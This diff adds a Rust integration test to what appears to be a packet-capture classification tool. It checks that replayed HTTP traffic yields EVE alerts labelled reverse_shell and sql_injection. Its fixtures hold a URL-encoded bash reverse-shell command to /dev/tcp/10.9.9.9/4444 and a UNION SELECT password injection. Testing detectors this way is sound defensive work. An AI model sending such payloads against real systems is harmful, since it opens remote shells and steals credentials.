@@ -798,3 +798,84 @@ fn rules_on_the_corpus() {
     assert!(r["stats"]["flows_classified"].as_u64().unwrap() > 1000);
     let _ = std::fs::remove_dir_all(&d);
 }
+
+/// `live --classify` through the live path (a replayed file, no root):
+/// verdicts become EVE alerts with their category as the flows end.
+#[test]
+fn live_replay_classify_writes_eve_alerts() {
+    let d = dir("live");
+    let shell = b"GET /cgi-bin/run?cmd=bash%20-i%20%3E%26%20/dev/tcp/10.9.9.9/4444%200%3E%261 HTTP/1.1\r\nHost: a\r\n\r\n";
+    let sqli =
+        b"GET /item?id=1'%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1\r\nHost: a\r\n\r\n";
+    let ok = b"HTTP/1.1 200 OK\r\n\r\n";
+    std::fs::write(
+        d.join("c.pcap"),
+        capture(&[
+            (
+                [10, 0, 0, 1],
+                40000,
+                [10, 0, 0, 2],
+                80,
+                shell.as_slice(),
+                ok.as_slice(),
+            ),
+            (
+                [10, 0, 0, 1],
+                40001,
+                [10, 0, 0, 2],
+                80,
+                sqli.as_slice(),
+                ok.as_slice(),
+            ),
+        ]),
+    )
+    .unwrap();
+    let out = Command::new(pcaplens_tests::pcaplens_bin())
+        .args([
+            "live",
+            "-r",
+            "c.pcap",
+            "--classify",
+            "--alerts",
+            "alerts.json",
+            "--json",
+            "--key-file",
+            "key.hex",
+        ])
+        .env_remove("AZURE_OPENAI_ENDPOINT")
+        .env_remove("OPENAI_BASE_URL")
+        .env_remove("OPENAI_API_KEY")
+        .current_dir(&d)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        report["live"]["classify"]["alerts"], 2,
+        "{}",
+        report["live"]
+    );
+    let lines: Vec<Value> = std::fs::read_to_string(d.join("alerts.json"))
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|v: &Value| v["alert"]["signature_id"] == 9000100)
+        .collect();
+    let cats: Vec<&str> = lines
+        .iter()
+        .map(|v| {
+            v["alert"]["metadata"]["classify_category"][0]
+                .as_str()
+                .unwrap()
+        })
+        .collect();
+    assert_eq!(cats, ["reverse_shell", "sql_injection"]);
+    assert_eq!(lines[0]["event_type"], "alert");
+    assert_eq!(lines[0]["src_ip"], "10.0.0.1");
+    assert_eq!(lines[0]["dest_port"], 80);
+    let _ = std::fs::remove_dir_all(&d);
+}
